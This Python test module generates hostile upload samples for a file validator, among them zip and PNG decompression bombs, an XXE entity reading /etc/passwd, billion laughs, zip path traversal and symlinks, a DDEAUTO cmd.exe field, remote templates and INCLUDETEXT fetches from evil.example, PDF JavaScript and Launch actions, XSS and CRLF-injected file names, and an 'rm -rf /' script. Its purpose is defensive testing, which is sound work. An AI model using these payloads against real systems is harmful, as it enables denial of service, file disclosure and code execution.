"""Files as people send them and as attackers do, made when a test runs; none lies in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

SECRET = b"canary-of-a-hidden-part"
SAID = SECRET.decode()
CT = "[Content_Types].xml"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def types(main: str = WORD, more: str = "") -> str:
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
    )


def relations(*rows: tuple[str, str, bool]) -> str:
    said = ""
    for number, (kind, target, out) in enumerate(rows):
        mode = ' TargetMode="External"' if out else ""
        said += f'<Relationship Id="r{number}" Type="{LINK}{kind}" Target="{target}"{mode}/>'
    return f'<?xml version="1.0"?><Relationships xmlns="{RELS}">{said}</Relationships>'


def document(body: str = "<w:p><w:r><w:t>Training record</w:t></w:r></w:p>") -> str:
    return f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'


def docx(more: Mapping[str, str | bytes] | None = None, *, main: str = WORD, body: str | None = None) -> bytes:
    """A Word document with these parts besides."""
    parts: dict[str, str | bytes] = {
        CT: types(main),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", False)),
        "word/document.xml": document() if body is None else document(body),
    }
    return archive(parts | dict(more or {}))


def xlsx(more: Mapping[str, str | bytes] | None = None) -> bytes:
    """A workbook, small."""
    parts: dict[str, str | bytes] = {CT: types(SHEET), "xl/workbook.xml": "<workbook/>"}
    return archive(parts | dict(more or {}))


def archive(parts: Mapping[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, value in parts.items():
            made.writestr(name, value)
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda pdf: None, **save: object) -> bytes:
    """A PDF of one page, changed."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    change(made)
    out = io.BytesIO()
    made.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def script() -> Dictionary:
    return Dictionary(S=Name("/JavaScript"), JS=pikepdf.String(f"app.alert('{SECRET.decode()}')"))


def on_opening(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.Root["/OpenAction"] = action

    return change


def with_note(note: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].obj["/Annots"] = Array([made.make_indirect(note)])

    return change


def note(subtype: str, **more: object) -> Dictionary:
    found = Dictionary(Type=Name("/Annot"), Subtype=Name(f"/{subtype}"), Rect=Array([0, 0, 10, 10]))
    for key, value in more.items():
        found[f"/{key}"] = value
    return found


def with_attachment(made: pikepdf.Pdf) -> None:
    made.attachments["secret.exe"] = pikepdf.AttachedFileSpec(made, b"MZ" + SECRET)


def with_author(made: pikepdf.Pdf) -> None:
    with made.open_metadata() as about:
        about["dc:creator"] = [SAID]
    made.docinfo["/Author"] = SAID
    made.docinfo["/Title"] = "Policy"


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **save: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (20, 120, 110)).save(out, kind, **save)
    return out.getvalue()


def located_photo() -> bytes:
    """A photo that says where it was taken and on which telephone."""
    about = Image.Exif()
    about[0x010F] = SECRET.decode()
    about[0x8825] = {1: "N", 2: (53.0, 40.0, 58.0), 3: "W", 4: (1.0, 29.0, 53.0)}
    return picture("JPEG", exif=about.tobytes())


def bomb_png(side: int = 30_000) -> bytes:
    """A picture of a few kilobytes that would need gigabytes."""

    def chunk(name: bytes, value: bytes) -> bytes:
        return struct.pack(">I", len(value)) + name + value + struct.pack(">I", zlib.crc32(name + value))

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 100_000))
        + chunk(b"IEND", b"")
    )


def parts_of(content: bytes) -> dict[str, bytes]:
    """The parts of an archive by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as found:
        return {name: found.read(name) for name in found.namelist()}


def damaged_zip(parts: Mapping[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive whose list of parts is whole and whose first part cannot be unpacked."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression) as archive:
        for name, value in parts.items():
            archive.writestr(name, value)
        first = archive.infolist()[0]
    content = bytearray(made.getvalue())
    begins = first.header_offset + 30 + len(first.filename.encode())
    begins += 9 if compression == zipfile.ZIP_LZMA else 0  # past what says how it is packed
    content[begins : begins + 16] = b"\xff" * 16
    return bytes(content)


def locked_zip(content: bytes) -> bytes:
    """The same archive with the mark of encryption on each part."""
    out = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = out.find(mark)
        while place >= 0:
            out[place + offset] |= 1
            place = out.find(mark, place + 4)
    return bytes(out)


def linked_part() -> bytes:
    """An archive one of whose parts is a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(CT, types())
        made.writestr("word/document.xml", document())
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def doubled_part() -> bytes:
    """Two parts of one name: some programs read the first, some the last."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr(CT, types())
        made.writestr("word/document.xml", document())
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            made.writestr("word/document.xml", document("<w:p/>"))
    return out.getvalue()


def zip_bomb() -> bytes:
    """300 MB of nothing in a third of a megabyte."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr(CT, types())
        with made.open("word/media/picture.png", "w") as stream:
            for _ in range(300):
                stream.write(bytes(1024 * 1024))
    return out.getvalue()


ENTITY = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9))
    + "]><d>&j;</d>"
)


def field(words: str) -> str:
    return f"<w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p>"


VBA = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)

REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "empty": ("a.pdf", lambda: b""),
    "larger than 20 MB": ("a.pdf", lambda: b"%PDF-1.7\n" + bytes(20 * 1024 * 1024)),
    "a program called pdf": ("policy.pdf", lambda: b"MZ" + bytes(300)),
    "a Linux program called docx": ("policy.docx", lambda: b"\x7fELF" + bytes(300)),
    "a web page called png": ("photo.png", lambda: b"<!DOCTYPE html><script>alert(1)</script>"),
    "a web page called txt": ("notes.txt", lambda: b"\n  <html><body onload=alert(1)>"),
    "a drawing with a script": ("logo.svg", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'),
    "a drawing called txt": ("logo.txt", lambda: b"<svg onload=alert(1)>"),
    "a shell script": ("notes.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "a PDF called docx": ("policy.docx", pdf),
    "a PDF called exe": ("policy.pdf.exe", pdf),
    "a picture called pdf": ("policy.pdf", picture),
    "zeroes called txt": ("notes.txt", lambda: bytes(300)),
    "noise called txt": ("notes.txt", lambda: bytes(range(256)) * 4),
    "an old Office file": ("register.doc", lambda: OLE),
    "a workbook with a password": ("register.xlsx", lambda: OLE),
    "a zip with a password": ("policy.docx", lambda: locked_zip(docx())),
    "a zip of files": ("policies.docx", lambda: archive({"policy.pdf": pdf()})),
    "a zip bomb": ("policy.docx", zip_bomb),
    "six thousand parts": ("policy.docx", lambda: docx({f"word/{n}.xml": "<a/>" for n in range(6000)})),
    "a part above the folder": ("policy.docx", lambda: docx({"../../etc/cron.d/x.xml": "<a/>"})),
    "a part of another drive": ("policy.docx", lambda: docx({"C:/x.xml": "<a/>"})),
    "a part that is a link": ("policy.docx", linked_part),
    "two parts of one name": ("policy.docx", doubled_part),
    "a cut archive": ("policy.docx", lambda: docx()[:-40]),
    "a part that does not unpack": ("policy.docx", lambda: damaged_zip(parts_of(docx()))),
    "a part that does not unpack from LZMA": ("policy.docx", lambda: damaged_zip(parts_of(docx()), zipfile.ZIP_LZMA)),
    "macros": ("policy.docx", lambda: docx({"word/vbaProject.bin": OLE})),
    "macros by type": ("policy.docx", lambda: docx(main=VBA)),
    "old macro sheets": ("register.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": "<a/>"})),
    "an object inside": ("policy.docx", lambda: docx({"word/embeddings/object1.bin": OLE})),
    "a control": ("policy.docx", lambda: docx({"word/activeX/activeX1.xml": "<a/>"})),
    "a template from elsewhere": (
        "policy.docx",
        lambda: docx({"word/_rels/settings.xml.rels": relations(("attachedTemplate", "https://evil.example/t", True))}),
    ),
    "a picture from elsewhere": (
        "policy.docx",
        lambda: docx({"word/_rels/document.xml.rels": relations(("image", "https://evil.example/spy.png", True))}),
    ),
    "a link that runs a program": (
        "policy.docx",
        lambda: docx({"word/_rels/document.xml.rels": relations(("hyperlink", "file:///c:/windows/calc.exe", True))}),
    ),
    "a field that starts a program": ("policy.docx", lambda: docx(body=field("DDEAUTO c:\\windows\\cmd.exe"))),
    "a field that loads a file": ("policy.docx", lambda: docx(body=field('INCLUDETEXT "https://evil.example/x"'))),
    "a workbook that asks elsewhere": ("register.xlsx", lambda: xlsx({"xl/connections.xml": "<connections/>"})),
    "a workbook linked to another": ("register.xlsx", lambda: xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"})),
    "an entity that reads a file": ("policy.docx", lambda: docx({"word/styles.xml": ENTITY})),
    "a billion laughs": ("policy.docx", lambda: docx({"word/styles.xml": LAUGHS})),
    "a PDF with a password": (
        "policy.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
    ),
    "a locked PDF": ("policy.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user=""))),
    "a cut PDF": ("policy.pdf", lambda: pdf()[:40]),
    "a PDF without pages": ("policy.pdf", lambda: b"%PDF-1.7\n%%EOF"),
    "a PDF in a picture": ("photo.png", lambda: pdf() + picture()),
    "a picture that needs gigabytes": ("photo.png", bomb_png),
    "a cut picture": ("photo.jpg", lambda: picture("JPEG")[:200]),
    "a GIF called png": ("photo.png", lambda: picture("GIF")),
    "a picture of 41 million dots": ("photo.png", lambda: picture(size=(8200, 5000))),
}  # fmt: skip

MADE_SAFE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a PDF with a script on opening": ("policy.pdf", lambda: pdf(on_opening(script()))),
    "a PDF that starts a program": (
        "policy.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name("/Launch"), F=pikepdf.String(SECRET.decode())))),
    ),
    "a PDF with a file inside": ("policy.pdf", lambda: pdf(with_attachment)),
    "a PDF with a file on a page": ("policy.pdf", lambda: pdf(with_note(note("FileAttachment", Contents=SAID)))),
    "a PDF whose link runs a script": ("policy.pdf", lambda: pdf(with_note(note("Link", A=script())))),
    "a PDF whose link reads a file": (
        "policy.pdf",
        lambda: pdf(with_note(note("Link", A=Dictionary(S=Name("/URI"), URI=f"file:///{SECRET.decode()}")))),
    ),
    "a PDF that sends a form": (
        "policy.pdf",
        lambda: pdf(with_note(note("Link", AA=Dictionary(F=script())))),
    ),
    "a PDF that plays something": ("policy.pdf", lambda: pdf(with_note(note("RichMedia", Contents=SECRET.decode())))),
    "a PDF with its author": ("policy.pdf", lambda: pdf(with_author)),
    "a PDF with something behind it": ("policy.pdf", lambda: pdf() + b"\n<script>" + SECRET),
    "a photo with its place": ("photo.jpg", located_photo),
    "a photo with something behind it": ("photo.jpg", lambda: picture("JPEG") + archive({"x": SECRET})),
    "a photo with a comment": ("photo.jpg", lambda: picture("JPEG", comment=SECRET)),
    "a picture with hidden words": ("photo.png", lambda: hidden_words()),
    "a document with something before its directory": ("policy.docx", lambda: docx() + SECRET),
    "a name with folders": ("..\\..\\windows\\system32\\policy.pdf", pdf),
    "a name that reads backwards": ("policy\u202efdp.exe\u202c.pdf", pdf),
    "a name that is a device": ("CON.pdf", pdf),
    "a name of marks": ('<img src=x onerror="alert(1)">.pdf', pdf),
    "a name without end": ("x" * 5000 + ".pdf", pdf),
    "a name with zero and line ends": ("policy\x00.exe\r\nSet-Cookie: a=b.pdf", pdf),
}  # fmt: skip


def hidden_words() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    words = PngInfo()
    words.add_text("Comment", SECRET.decode())
    return picture(pnginfo=words)
